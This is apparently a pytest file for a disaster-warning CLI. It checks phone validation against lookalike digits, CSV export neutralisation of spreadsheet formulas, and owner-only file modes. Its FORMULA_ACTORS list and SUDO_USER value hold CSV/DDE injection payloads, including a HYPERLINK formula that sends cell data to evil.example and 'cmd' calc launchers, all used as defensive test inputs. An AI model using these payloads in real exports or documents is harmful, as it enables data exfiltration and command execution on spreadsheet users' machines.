"""What operators type and what their shells make: numbers, exported cells and file modes.

Each test injects what an unlucky or hostile operator would (a phone written in
Arabic-Indic digits, an actor named like a spreadsheet formula, a shell with
umask 022) through the real commands and checks what comes out.
"""

from __future__ import annotations

import csv
import io
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.operations import NOW, fire, quake, send_all, settings_of, write_config
from warning.cli.main import main
from warning.model import Severity
from warning.operations.delivery import actor
from warning.plan.contacts import normalise_phone, phone_problem
from warning.store.sqlite import Store

#: Numbers that look right to a person but are not ASCII digits.
LOOKALIKE_PHONES = {
    "Arabic-Indic": "+62812٣٤٥٦٧٨٩٠",
    "fullwidth": "+62812３４５６７８９０",
    "Devanagari": "+62812३४५६७८९०",
}
#: Actors a spreadsheet would run: every formula start OWASP lists.
FORMULA_ACTORS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def shell_umask() -> Iterator[None]:
    """An operator's shell: umask 022, which makes files 0644 unless the code says otherwise."""
    before = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(before)


@pytest.mark.parametrize("script", LOOKALIKE_PHONES)
def test_a_phone_in_non_ascii_digits_is_not_e164(script: str) -> None:
    """Digits of another script are an error, as any other non-number."""
    phone = normalise_phone(LOOKALIKE_PHONES[script])
    problem = phone_problem(phone)
    print(f"injected a phone in {script} digits; saw {problem}")
    assert problem is not None
    assert problem[0] is Severity.ERROR


def test_formula_cells_are_exported_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Actors from --actor and from a crafted SUDO_USER never start a CSV cell with a formula."""
    config = write_config(tmp_path)
    store = Store(tmp_path / "state.db")
    fire(store, quake())
    send_all(store, settings_of(config))
    monkeypatch.setenv("SUDO_USER", "=cmd|' /C calc'!A0")
    actors = (*FORMULA_ACTORS, actor(None))
    with store.transaction() as tx:
        for name in actors:
            store.audit(tx, name, "outbox.retry", {"id": 1}, NOW)
    capsys.readouterr()
    assert main(["--config", str(config), "audit", "export", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    exported = [r["actor"] for r in rows if r["type"] == "action"]
    cells = [cell for row in rows for cell in row.values() if cell]
    print(f"injected {len(actors)} formula actors; saw {exported}")
    assert exported == ["'" + name for name in actors]
    assert not [c for c in cells if c.startswith(FORMULA_START) and not c.startswith("+62")]


def test_backups_and_exports_are_owner_only(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], shell_umask: None
) -> None:
    """Under umask 022, `warning backup` and `audit export --output` write 0600 files."""
    config = write_config(tmp_path)
    store = Store(tmp_path / "state.db")
    fire(store, quake())
    backup, export = tmp_path / "backup.db", tmp_path / "audit.csv"
    assert main(["--config", str(config), "backup", str(backup)]) == 0
    assert main(["--config", str(config), "audit", "export", "--output", str(export)]) == 0
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in (backup, export)}
    print(f"injected umask 022; saw modes { ({k: oct(v) for k, v in modes.items()}) }")
    assert modes == {"backup.db": 0o600, "audit.csv": 0o600}
    assert export.read_text(encoding="utf-8").startswith("type,time,")
    assert capsys.readouterr().out.count("backup written") == 1


def test_cap_files_are_not_world_readable(tmp_path: Path, shell_umask: None) -> None:
    """CAP documents and journals written from an operator's shell are 0640."""
    config = write_config(tmp_path)
    store = Store(tmp_path / "state.db")
    fire(store, quake())
    send_all(store, settings_of(config))
    written = [p for p in (tmp_path / "cap").rglob("*") if p.is_file() and p.name != ".lock"]
    modes = {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in written}
    print(f"injected umask 022; saw CAP file modes {modes}")
    assert written
    assert set(modes.values()) == {"0o640"}
